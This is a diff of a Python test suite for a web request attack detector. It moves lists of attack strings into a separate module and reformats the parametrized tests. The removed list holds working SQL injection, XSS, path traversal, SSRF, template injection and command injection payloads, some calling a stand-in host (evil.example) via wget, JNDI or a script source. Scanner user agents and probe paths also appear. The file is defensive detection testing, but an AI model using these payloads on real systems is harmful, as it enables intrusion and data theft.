@@ -20,109 +20,7 @@ from artisan_monitoring.security.inspection import (
     suspicious,
 )
 from artisan_monitoring.security.rules import RULES
-
-ATTACKS = [
-    ("malicious_sqli", "1' or '1'='1"),
-    ("malicious_sqli", "1' OR 1=1 --"),
-    ("malicious_sqli", "') or ('a'='a"),
-    ("malicious_sqli", '" or ""="'),
-    ("malicious_sqli", "1 or 1=1"),
-    ("malicious_sqli", "1 AND 7331=7331"),
-    ("malicious_sqli", "-1 union select null,null,version()"),
-    ("malicious_sqli", "1 UNION ALL SELECT username, password FROM auth_user"),
-    ("malicious_sqli", "1/**/union/**/select/**/1,2,3"),
-    ("malicious_sqli", "1; drop table auth_user"),
-    ("malicious_sqli", "1;select pg_sleep(5)"),
-    ("malicious_sqli", "1 and sleep(5)"),
-    ("malicious_sqli", "1 waitfor delay '0:0:5'"),
-    ("malicious_sqli", "admin'--"),
-    ("malicious_sqli", "admin' #"),
-    ("malicious_xss", "<script>alert(1)</script>"),
-    ("malicious_xss", "<ScRiPt src=//evil.example>"),
-    ("malicious_xss", "<img src=x onerror=alert(1)>"),
-    ("malicious_xss", '"><svg/onload=alert(1)>'),
-    ("malicious_xss", '" onmouseover="alert(1)'),
-    ("malicious_xss", "javascript:alert(1)"),
-    ("malicious_xss", "data:text/html,<b>"),
-    ("malicious_lfi", "../../../../etc/passwd"),
-    ("malicious_lfi", "..\\..\\windows\\win.ini"),
-    ("malicious_lfi", "/etc/passwd"),
-    ("malicious_lfi", "/proc/self/environ"),
-    ("malicious_lfi", "php://filter/convert.base64-encode/resource=index"),
-    ("malicious_rce", "8.8.8.8; cat /etc/hostname"),
-    ("malicious_rce", "x|id"),
-    ("malicious_rce", "$(whoami)"),
-    ("malicious_rce", "`uname -a`"),
-    ("malicious_rce", "a && wget http://evil.example/x"),
-    ("malicious_rce", "${jndi:ldap://evil.example/a}"),
-    ("malicious_rce", "${${lower:j}ndi:x}"),
-    ("malicious_rce", "<?php system('id') ?>"),
-    ("malicious_ssti", "{{7*7}}"),
-    ("malicious_ssti", "{{ config.items() }}"),
-    ("malicious_ssti", "{{''.__class__.__mro__}}"),
-    ("malicious_ssti", "${7*7}"),
-    ("malicious_ssti", "#{1+1}"),
-    ("malicious_ssrf", "http://169.254.169.254/latest/meta-data/"),
-    ("malicious_ssrf", "http://metadata.google.internal/"),
-    ("malicious_ssrf", "gopher://127.0.0.1:6379/_x"),
-    ("malicious_extraneous", "x\r\nSet-Cookie: a=b"),
-    ("malicious_extraneous", "x\x00.png"),
-]
-
-# Each alone below the threshold, or only in a path.
-ALSO = [
-    "x information_schema.tables",
-    "x group_concat(a)",
-    "<iframe src=x>",
-    "/../x",
-    "../x",
-    "%c0%ae",
-    "{% load x %}",
-    "http://localhost/",
-]
-
-EVERYDAY = [
-    "hello world",
-    "O'Brien",
-    "it's a dog's life",
-    "rock 'n' roll or jazz",
-    "Tom & Jerry",
-    "salt and pepper",
-    "this or that",
-    "select a size",
-    "the trade union select committee met",
-    "the students' union and the staff",
-    "European Union; select members only",
-    "please drop the table at the door",
-    "update the settings",
-    "I like dogs; cats are fine too",
-    "x < y and y > z",
-    "a <b>bold</b> claim with a <a href='https://example.com/?a=1&b=2'>link</a>",
-    "JavaScript: The Good Parts",
-    "on error resume next = old habits",
-    "5 > 3; 3 < 5",
-    "price: $5.00 (was $7.50)",
-    "100% cotton & 50% off!",
-    "c:\\users\\bob\\file.txt",
-    "see ../readme",
-    "https://example.com/path?x=1#frag",
-    "/admin/shop/product/?q=red",
-    "etc. and so on",
-    "name@example.com",
-    "{{ name }}",
-    "{ \"a\": [1, 2, {\"b\": null}] }",
-    "1 = 1, that is a fact",
-    "id=5; name='x'",
-    "python -m venv; then activate",
-    "use `ls` to list files",
-    "__init__.py",
-    "user__name",
-    "2026-11-23T10:00:00+00:00",
-    "naïve café ☕ 日本語",
-    "line one\r\nline two",
-    "SELECT is a keyword",
-    "I'd group by colour, order by price",
-]  # fmt: skip
+from tests.security.attacks import ALSO, ATTACKS, EVERYDAY
 
 
 def scores(value, name="q"):
@@ -166,25 +64,44 @@ def test_everyday_input_stays_below_the_threshold(value):
 
 
 @pytest.mark.parametrize(
-    "path", ["/a/../../etc/passwd", "/static/..%5c..%5cwin.ini", "/%c0%ae%c0%ae/x", "/x\x00", "/<script>alert(1)</script>/", "//etc/passwd"]
-)  # fmt: skip
+    "path",
+    [
+        "/a/../../etc/passwd",
+        "/static/..%5c..%5cwin.ini",
+        "/%c0%ae%c0%ae/x",
+        "/x\x00",
+        "/<script>alert(1)</script>/",
+        "//etc/passwd",
+    ],
+)
 def test_a_path_is_searched(path):
     assert suspicious(path, "")
     assert inspect(path, "").score >= 5
 
 
-@pytest.mark.parametrize("path", ["/", "/products/12/", "/a.b/c~d/e@f+g,h=i:j/", "/caf%C3%A9/", "/café/", "/x..y/", "/a__b/", "/etc/"])
+@pytest.mark.parametrize(
+    "path", ["/", "/products/12/", "/a.b/c~d/e@f+g,h=i:j/", "/caf%C3%A9/", "/café/", "/x..y/", "/a__b/", "/etc/"]
+)
 def test_an_ordinary_path_is_not_an_attack(path):
     assert inspect(path, "").findings == []
 
 
 def test_a_clean_request_is_not_even_looked_at_closely():
-    assert not suspicious("/api/products/12/reviews/", "page=2&sort=-price&q=red+shoes&next=%2Fadmin%2Fa&name=caf%C3%A9")
+    assert not suspicious(
+        "/api/products/12/reviews/", "page=2&sort=-price&q=red+shoes&next=%2Fadmin%2Fa&name=caf%C3%A9"
+    )
 
 
 @pytest.mark.parametrize(
     "name",
-    ["password__startswith", "user__password__regex", "author__auth_token__gt", "owner__api_key__contains", "_connector", "_negated"],
+    [
+        "password__startswith",
+        "user__password__regex",
+        "author__auth_token__gt",
+        "owner__api_key__contains",
+        "_connector",
+        "_negated",
+    ],
 )
 def test_a_lookup_through_a_secret_field_is_found(name):
     verdict = inspect("/", f"a=1&{name}=x")
@@ -193,7 +110,9 @@ def test_a_lookup_through_a_secret_field_is_found(name):
     assert suspicious("/", f"{name}=x")
 
 
-@pytest.mark.parametrize("name", ["created__gte", "is_active__exact", "author__name__icontains", "password", "hash", "_", "__"])
+@pytest.mark.parametrize(
+    "name", ["created__gte", "is_active__exact", "author__name__icontains", "password", "hash", "_", "__"]
+)
 def test_an_ordinary_filter_is_not(name):
     assert inspect("/", f"{name}=x").findings == []
 
@@ -208,8 +127,16 @@ def test_the_value_of_a_secret_is_never_looked_at_but_its_name_is():
 
 
 @pytest.mark.parametrize(
-    "agent", ["sqlmap/1.7", "Mozilla/5.0 (Nikto/2.5)", "Mozlila/5.0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "zgrab/0.x"]
-)  # fmt: skip
+    "agent",
+    [
+        "sqlmap/1.7",
+        "Mozilla/5.0 (Nikto/2.5)",
+        "Mozlila/5.0",
+        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+        "gobuster/3.6",
+        "zgrab/0.x",
+    ],
+)
 def test_a_scanner_is_known_by_its_user_agent(agent):
     assert [each.event for each in agent_findings(agent)] == ["malicious_attack_tool"]
 
@@ -220,21 +147,36 @@ def test_attacks_in_a_user_agent_are_found():
 
 
 @pytest.mark.parametrize(
-    "agent", ["", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "python-httpx/0.27", "curl/8.5", "kube-probe/1.30"]
-)  # fmt: skip
+    "agent",
+    [
+        "",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+        "python-httpx/0.27",
+        "curl/8.5",
+        "kube-probe/1.30",
+    ],
+)
 def test_other_programs_are_welcome(agent):
     assert agent_findings(agent) == ()
 
 
 @pytest.mark.parametrize(
     ("path", "segment"),
-    [("/.env", ".env"), ("/app/.git/config", ".git"), ("/wp-login.php", "wp-login.php"), ("/.claude/settings.json", ".claude"), ("/WP-Admin/", "wp-admin")],
+    [
+        ("/.env", ".env"),
+        ("/app/.git/config", ".git"),
+        ("/wp-login.php", "wp-login.php"),
+        ("/.claude/settings.json", ".claude"),
+        ("/WP-Admin/", "wp-admin"),
+    ],
 )
 def test_honey_paths_are_known(path, segment):
     assert honey_segment(path) == segment
 
 
-@pytest.mark.parametrize("path", ["/", "/environment/", "/products/1/", "/.well-known/security.txt", "/favicon.ico", ""])
+@pytest.mark.parametrize(
+    "path", ["/", "/environment/", "/products/1/", "/.well-known/security.txt", "/favicon.ico", ""]
+)
 def test_other_paths_are_no_honey(path):
     assert honey_segment(path) == ""
 
@@ -280,7 +222,9 @@ def test_values_that_are_no_text_are_passed_over():
     assert inspect("/", "", [("file", [b"<script>", 5, None])]).findings == []
 
 
-@given(st.text(max_size=200), st.text(max_size=400), st.dictionaries(st.text(max_size=20), st.lists(st.text(max_size=100))))
+@given(
+    st.text(max_size=200), st.text(max_size=400), st.dictionaries(st.text(max_size=20), st.lists(st.text(max_size=100)))
+)
 def test_nothing_that_comes_in_breaks_it(path, query, form):
     suspicious(path, query)
     verdict = inspect(path, query, form.items())
@@ -310,7 +254,12 @@ def test_every_rule_is_bounded(rule):
 
 @pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
 def test_every_rule_has_an_attack_that_needs_it(rule):
-    found = {each.rule for _, value in ATTACKS for target in ("q=", "") for each in inspect(f"/{value}", f"q={quote_plus(value)}").findings}
+    found = {
+        each.rule
+        for _, value in ATTACKS
+        for target in ("q=", "")
+        for each in inspect(f"/{value}", f"q={quote_plus(value)}").findings
+    }
     found |= {each.rule for value in ALSO for each in inspect(f"/{value}", f"q={quote_plus(value)}").findings}
     found |= {each.rule for each in agent_findings("() { :; };")}
     assert rule.id in found
